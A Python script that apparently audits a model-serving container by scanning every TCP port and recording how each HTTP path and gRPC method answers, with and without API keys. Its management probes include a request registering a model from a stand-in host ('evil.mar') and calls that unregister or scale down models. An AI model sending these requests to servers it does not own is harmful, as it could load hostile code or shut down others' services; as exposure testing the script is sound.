"""What a stranger gets from a container: every port that is open, and what every path and gRPC method says there."""

import socket
from collections.abc import Iterable, Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from functools import partial

import grpc
import requests

from handler.doors.paths import ROOT_PATHS

MODEL = "bert"
CONNECT_S = 1.0
ASK_S = 10.0
INPUT = {"inputs": "hello"}
KEYS = ("--env", "BERTH_API_KEYS=somebody 0123456789abcdef0123456789abcdef")
"""Options of a container that asks for a key."""
PAGE = ("/ui", "/ui/static/main.js", "/docs", "/openapi.json")
"""The page's files, which need no key; its calls do."""
PATHS = (
    *(("GET", path) for path in PAGE),
    ("GET", "/ui/models"),
    ("GET", "/ui/state"),
    ("GET", "/"),
    ("OPTIONS", "/"),
    ("GET", "/ping"),
    ("GET", "/metrics"),
    ("GET", "/startup"),
    ("GET", "/live"),
    ("GET", "/ready"),
    ("GET", "/capacity"),
    ("GET", "/health"),
    ("GET", "/api-description"),
    ("POST", f"/predictions/{MODEL}"),
    ("GET", f"/predictions/{MODEL}/1.0/check"),
    ("POST", f"/explanations/{MODEL}"),
    ("GET", "/v1/models"),
    ("GET", f"/v1/models/{MODEL}"),
    ("POST", f"/v1/models/{MODEL}:predict"),
    ("GET", "/v2"),
    ("GET", "/v2/health/live"),
    ("GET", "/v2/health/ready"),
    ("GET", f"/v2/models/{MODEL}"),
    ("GET", f"/v2/models/{MODEL}/ready"),
    ("POST", f"/v2/models/{MODEL}/infer"),
    *((path.methods[0], f"/{path.url_path}") for path in ROOT_PATHS),
)
MANAGEMENT = (
    ("GET", "/models"),
    ("GET", f"/models/{MODEL}"),
    ("POST", "/models?url=http://203.0.113.7/evil.mar"),
    ("PUT", f"/models/{MODEL}?min_worker=0"),
    ("PUT", f"/models/{MODEL}/1.0/set-default"),
    ("DELETE", f"/models/{MODEL}"),
    ("GET", "/token?type=inference"),
    ("GET", "/workflows"),
    ("PUT", f"/ui/models/{MODEL}/1.0/workers"),
)
"""TorchServe's management API, and the page's call of it: who reaches it can switch a model off."""
SERVE = "org.pytorch.serve.grpc"
METHODS = (
    "grpc.health.v1.Health/Check",
    "grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo",
    "inference.GRPCInferenceService/ServerLive",
    "inference.GRPCInferenceService/ModelMetadata",
    "inference.GRPCInferenceService/ModelInfer",
    f"{SERVE}.openinference.GRPCInferenceService/ServerLive",
    f"{SERVE}.inference.InferenceAPIsService/Ping",
    f"{SERVE}.inference.InferenceAPIsService/Predictions",
    f"{SERVE}.inference.InferenceAPIsService/StreamPredictions",
    f"{SERVE}.inference.InferenceAPIsService/StreamPredictions2",
)
MANAGEMENT_METHODS = tuple(
    f"{SERVE}.management.ManagementAPIsService/{name}"
    for name in ("ListModels", "DescribeModel", "RegisterModel", "ScaleWorker", "SetDefault", "UnregisterModel")
)


def open_ports(host: str) -> list[int]:
    """Every TCP port of a host that takes a connection."""
    return [port for port in range(1, 2**16) if is_open(host, port)]


def is_open(host: str, port: int) -> bool:
    """Whether somebody accepts."""
    with socket.socket() as connection:
        connection.settimeout(CONNECT_S)
        return connection.connect_ex((host, port)) == 0


def ask(host: str, port: int, method: str, path: str) -> str:
    """The status that a request gets, "-" where the port speaks no HTTP."""
    body = INPUT if method == "POST" and "?" not in path else None
    try:
        return str(requests.request(method, f"http://{host}:{port}{path}", json=body, timeout=ASK_S).status_code)
    except requests.RequestException:
        return "-"


def ask_all(host: str, port: int, asked: Iterable[tuple[str, str]]) -> list[str]:
    """The status of each."""
    with ThreadPoolExecutor(8) as threads:
        return list(threads.map(lambda each: ask(host, port, *each), asked))


def call(host: str, port: int, method: str) -> str:
    """The name of the status that an empty message gets."""
    with grpc.insecure_channel(f"{host}:{port}") as channel:
        calling = channel.stream_stream(f"/{method}", request_serializer=bytes, response_deserializer=bytes)
        try:
            list(calling(iter([b""]), timeout=ASK_S))
        except grpc.RpcError as error:
            return str(error.code().name)
        return "OK"


def call_all(host: str, port: int, methods: Iterable[str]) -> list[str]:
    """The status of each."""
    return [*map(partial(call, host, port), methods)]


def scan(unlocked: str, locked: str) -> Iterator[str]:
    """Lines of two tables: each path and each method, at a container without keys and at one that asks for them."""
    ports, ports_with_keys = (", ".join(map(str, open_ports(host))) for host in (unlocked, locked))
    yield f"open ports: {ports}; with keys: {ports_with_keys}"
    places = ((unlocked, 8080), (locked, 8080), (locked, 8082), (locked, 8090))
    columns = [ask_all(*place, PATHS + MANAGEMENT) for place in places]
    asked = [f"{method} {path}" for method, path in PATHS + MANAGEMENT]
    yield from table(("HTTP", "8080", "8080 with keys", "8082", "8090"), zip(asked, *columns, strict=True))
    methods = METHODS + MANAGEMENT_METHODS
    answers = [call_all(host, 7070, methods) for host in (unlocked, locked)]
    yield from table(("gRPC, an empty message", "7070", "7070 with keys"), zip(methods, *answers, strict=True))


def table(header: Sequence[str], rows: Iterable[Sequence[str]]) -> Iterator[str]:
    """An empty line, the header and the rows, their columns aligned."""
    lines = [header, *rows]
    widths = [max(map(len, column)) for column in zip(*lines, strict=True)]
    yield ""
    for line in lines:
        yield "  ".join(cell.ljust(width) for cell, width in zip(line, widths, strict=True)).rstrip()
